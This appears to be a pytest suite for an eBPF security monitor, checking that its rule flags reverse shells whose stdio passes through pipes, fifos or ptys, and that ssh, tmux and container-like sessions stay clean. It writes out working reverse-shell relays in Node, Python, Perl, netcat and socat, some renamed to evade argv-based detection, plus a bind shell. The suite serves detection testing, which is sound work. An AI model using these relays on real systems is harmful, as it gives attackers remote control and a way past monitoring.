"""Reverse shells whose stdio is not a socket, end to end as root: the
shell's input and output go through pipes, a fifo, a pty or a socket pair
to a relay that holds the connection (rules/reverse_shell.yaml,
``shell-stdio-network-relay``; rome_guard.state.stdio). Real processes,
real kernel events, attackers listening on 127.x; four relays in four
languages or tools, and the benign twins of training-host life that drive
a shell through a pty or pipes without a network peer on both sides."""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.fixtures.daemon import Daemon, ebpf_monitor, rule_ids
from tests.fixtures.network import free_port, listener, sshd, wait_until

RULE = "shell-stdio-network-relay"


guard = pytest.fixture(scope="module", name="guard")(ebpf_monitor)


def in_tree(root_pid: int, rule: str = RULE):
    """A record of rule on root_pid or anything under it."""
    return lambda r: (
        rule in rule_ids(r)
        and (r["process"]["pid"] == root_pid or any(p["pid"] == root_pid for p in r["lineage"]))
    )


def tree_alerts(guard: Daemon, root_pid: int, rule: str = RULE) -> list[dict]:
    return guard.alerts_for(in_tree(root_pid, rule))


def _start(argv: list[str], **kw) -> subprocess.Popen:
    kw.setdefault("stdin", subprocess.DEVNULL)
    kw.setdefault("stdout", subprocess.DEVNULL)
    kw.setdefault("stderr", subprocess.DEVNULL)
    return subprocess.Popen(argv, start_new_session=True, **kw)


def _stop(proc: subprocess.Popen) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()


def _attacker_sees_prompt(attacker, command: bytes = b"echo rg-relay-$((6*7))\n") -> bool:
    """The attacker's side of the shell works: it runs a command."""
    conn = wait_until(lambda: attacker.conns and attacker.conns[0], timeout=20)
    conn.settimeout(10)
    conn.sendall(command)
    seen = b""
    deadline = time.monotonic() + 10
    while b"rg-relay-42" not in seen and time.monotonic() < deadline:
        with contextlib.suppress(socket.timeout):
            chunk = conn.recv(4096)
            if not chunk:
                break
            seen += chunk
    return b"rg-relay-42" in seen


# --- relays in four languages or tools ------------------------------------------

NODE_RELAY = r"""
const net = require("net"), cp = require("child_process");
const s = net.connect(+process.argv[3], process.argv[2], () => {
  const sh = cp.spawn("/bin/sh", ["-i"]);
  s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);
  sh.on("exit", () => process.exit(0));
});
"""

PTY_FORK_RELAY = r"""
import os, pty, select, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
pid, master = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh"])
while True:
    ready, _, _ = select.select([s, master], [], [])
    for r in ready:
        try:
            data = os.read(r.fileno() if r is s else master, 4096)
        except OSError:
            sys.exit(0)
        if not data:
            sys.exit(0)
        if r is s:
            os.write(master, data)
        else:
            s.sendall(data)
"""


PERL_RELAY = r"""
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1]) or die;
pipe(my $from_net, my $to_sh); pipe(my $from_sh, my $to_net);
if (!fork) {
    open STDIN, "<&", $from_net; open STDOUT, ">&", $to_net; open STDERR, ">&", $to_net;
    close $to_sh; close $from_sh; close $s;
    exec "/bin/sh", "-i";
}
close $from_net; close $to_net;
if (!fork) { while (sysread($s, my $b, 4096)) { syswrite($to_sh, $b) } exit }
while (sysread($from_sh, my $b, 4096)) { syswrite($s, $b) }
"""


def _perl(tmp_path: Path, attacker) -> subprocess.Popen:
    """Two relay processes, both holding the socket: one copies the
    network into the shell's pipe, the other the shell's pipe out."""
    script = tmp_path / "relay.pl"
    script.write_text(PERL_RELAY)
    return _start(["perl", str(script), attacker.host, str(attacker.port)])


def _node(tmp_path: Path, attacker) -> subprocess.Popen:
    script = tmp_path / "relay.js"
    script.write_text(NODE_RELAY)
    return _start(["node", str(script), attacker.host, str(attacker.port)])


def _pty_fork(tmp_path: Path, attacker) -> subprocess.Popen:
    script = tmp_path / "relay.py"
    script.write_text(PTY_FORK_RELAY)
    return _start([sys.executable, str(script), attacker.host, str(attacker.port)])


def _fifo_renamed_nc(tmp_path: Path, attacker) -> subprocess.Popen:
    """mkfifo | sh -i | nc with nc copied under another name: argv
    recognition (shell-fifo-netcat) cannot know it; sh starts before the
    relay connects."""
    relay = tmp_path / "transfer-agent"
    shutil.copy(shutil.which("nc") or "/usr/bin/nc", relay)
    fifo = tmp_path / "f"
    script = f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | {relay} {attacker.host} {attacker.port} > {fifo}"
    return _start(["sh", "-c", script])


def _socat_pty(tmp_path: Path, attacker) -> subprocess.Popen:
    """socat under another name: shell-socat-exec (argv) does not know it
    (nor kills it first, in a foreign enforcing daemon on a shared host)."""
    relay = tmp_path / "tty-bridge"
    shutil.copy(shutil.which("socat") or "/usr/bin/socat", relay)
    return _start([str(relay), f"TCP:{attacker.host}:{attacker.port}", "EXEC:sh,pty,stderr,setsid"])


@pytest.mark.parametrize(
    ("spawn", "host"),
    [
        (_node, "127.0.31.1"),
        (_pty_fork, "127.0.31.2"),
        (_fifo_renamed_nc, "127.0.31.3"),
        (_socat_pty, "127.0.31.4"),
        (_perl, "127.0.31.7"),
    ],
    ids=["node-child_process", "python-pty.fork", "mkfifo-renamed-nc", "socat-exec-pty", "perl"],
)
def test_shell_driven_through_a_relay_is_a_reverse_shell(
    guard: Daemon, tmp_path: Path, spawn, host: str
) -> None:
    with listener(host, 0) as attacker:
        proc = spawn(tmp_path, attacker)
        try:
            assert _attacker_sees_prompt(attacker)  # a working shell, not a toy
            alert = guard.wait_alert(in_tree(proc.pid), timeout=20)
        finally:
            _stop(proc)
    assert alert["category"] == "reverse_shell"
    assert alert["process"]["comm"] == "sh"
    reason = next(hit["reason"] for hit in alert["rules"] if hit["rule"] == RULE)
    assert f"-> {host}:{attacker.port}" in reason
    assert alert["network"]["daddr"] == host


def test_fifo_shell_started_before_its_relay_connects(guard: Daemon, tmp_path: Path) -> None:
    """The ordering race: sh -i is judged at exec with no relay yet; the
    relay's connect seconds later makes it a reverse shell."""
    relay = tmp_path / "sync-agent"
    shutil.copy(shutil.which("nc") or "/usr/bin/nc", relay)
    fifo = tmp_path / "f"
    with listener("127.0.31.5", 0) as attacker:
        script = (
            f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | "
            f"(sleep 3; exec {relay} {attacker.host} {attacker.port}) > {fifo}"
        )
        proc = _start(["sh", "-c", script])
        try:
            assert _attacker_sees_prompt(attacker)
            alert = guard.wait_alert(in_tree(proc.pid), timeout=20)
        finally:
            _stop(proc)
    assert alert["category"] == "reverse_shell"


def test_fifo_bind_shell_accepting_after_the_shell_started(guard: Daemon, tmp_path: Path) -> None:
    """A bind shell: the relay listens, and the attacker's connection is
    accepted seconds after sh started; an accept raises no event, the
    pending sweep finds it."""
    relay = tmp_path / "metrics-agent"
    shutil.copy(shutil.which("ncat") or "/usr/bin/ncat", relay)
    fifo = tmp_path / "f"
    port = free_port("127.0.31.6")
    script = (
        f"rm -f {fifo}; mkfifo {fifo}; sh -i <{fifo} 2>&1 | {relay} -l 127.0.31.6 {port} >{fifo}"
    )
    proc = _start(["sh", "-c", script])
    try:
        time.sleep(2)
        attacker = wait_until(lambda: _connect_or_none("127.0.31.6", port), timeout=20)
        with attacker:
            alert = guard.wait_alert(in_tree(proc.pid), timeout=20)
    finally:
        _stop(proc)
    assert alert["category"] == "reverse_shell"
    assert alert["network"]["sport"] == port  # the accepted connection


def _connect_or_none(host: str, port: int) -> socket.socket | None:
    try:
        return socket.create_connection((host, port), timeout=2)
    except OSError:
        return None


# --- benign twins --------------------------------------------------------------


def test_ssh_session_shell_is_clean(guard: Daemon) -> None:
    """sshd relays every login shell through a pty: its sessions are the
    remote_access_servers exception, not reverse shells."""
    with sshd("127.0.31.20") as server:
        client = subprocess.run(
            server.ssh_argv("-tt", f"root@{server.host}"),
            input=b"echo rg-ssh-$((6*7)); exit\n",
            capture_output=True,
            timeout=60,
        )
        assert b"rg-ssh-42" in client.stdout
        guard.settle()
        assert tree_alerts(guard, server.process.pid) == []


TERMINAL_RELAY = r"""
import os, pty, select, socket, sys
# docker exec -it: a pty relayed to a unix socket (the runtime's), no network
a, b = socket.socketpair()
pid, master = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-i"])
os.write(master, b"sleep 2; exit\n")
while True:
    ready, _, _ = select.select([master], [], [], 5)
    if not ready:
        break
    try:
        data = os.read(master, 4096)
    except OSError:
        break
    if not data:
        break
    a.sendall(data)
"""

KUBECTL_LIKE = r"""
import os, socket, subprocess, sys
# a client holding the API server connection runs a local shell whose
# terminal is its own (a pty from script), not the connection
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
subprocess.run(["script", "-qc", "sh -i", "/dev/null"], input=b"sleep 2; exit\n")
"""

JUPYTER_LIKE = r"""
import os, socket, subprocess, sys, time
# a notebook server: listening, with a loopback client connected; its
# kernel's stdin and stdout are pipes to it, and it runs a module
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
c = socket.create_connection(srv.getsockname()); conn, _ = srv.accept()
kernel = subprocess.Popen(
    [sys.executable, "-m", "json.tool"], stdin=subprocess.PIPE, stdout=subprocess.PIPE
)
time.sleep(2)
kernel.communicate(b"{}")
"""

CI_RUNNER = r"""
import os, socket, subprocess, sys
# a CI runner: the job's shell reads its script from a file, its output
# goes through a pipe to the runner, which ships it to a log server
log = socket.create_connection((sys.argv[1], int(sys.argv[2])))
script = sys.argv[3]
with open(script) as f:
    job = subprocess.Popen(["sh"], stdin=f, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    for line in job.stdout:
        log.sendall(line)
    job.wait()
"""


@pytest.mark.parametrize(
    ("code", "needs_listener"),
    [(TERMINAL_RELAY, False), (KUBECTL_LIKE, True), (JUPYTER_LIKE, False), (CI_RUNNER, True)],
    ids=["docker-exec-like", "kubectl-exec-like", "jupyter-kernel-like", "ci-runner-log"],
)
def test_shells_behind_pipes_and_ptys_without_a_network_peer_are_clean(
    guard: Daemon, tmp_path: Path, code: str, needs_listener: bool
) -> None:
    program = tmp_path / "program.py"
    program.write_text(code)
    job = tmp_path / "job.sh"
    job.write_text("echo building; sleep 2; echo done\n")
    with listener("127.0.31.30", 0) as server:
        argv = [sys.executable, str(program)]
        if needs_listener:
            argv += [server.host, str(server.port), str(job)]
        proc = _start(argv)
        try:
            proc.wait(30)
            guard.settle()
        finally:
            _stop(proc)
    assert tree_alerts(guard, proc.pid) == []
    assert tree_alerts(guard, proc.pid, "shell-stdio-socket") == []


def test_tmux_session_is_clean(guard: Daemon, tmp_path: Path) -> None:
    socket_path = tmp_path / "tmux.sock"
    subprocess.run(
        ["tmux", "-S", str(socket_path), "-f", "/dev/null", "new-session", "-d", "sh -i"],
        check=True,
        timeout=30,
    )
    try:
        server_pid = int(
            subprocess.run(
                ["tmux", "-S", str(socket_path), "display-message", "-p", "#{pid}"],
                capture_output=True,
                check=True,
                timeout=30,
            ).stdout
        )
        subprocess.run(
            ["tmux", "-S", str(socket_path), "send-keys", "echo hi; sleep 1", "Enter"],
            check=True,
            timeout=30,
        )
        guard.settle(2.5)
        assert tree_alerts(guard, server_pid) == []
    finally:
        subprocess.run(["tmux", "-S", str(socket_path), "kill-server"], timeout=30)
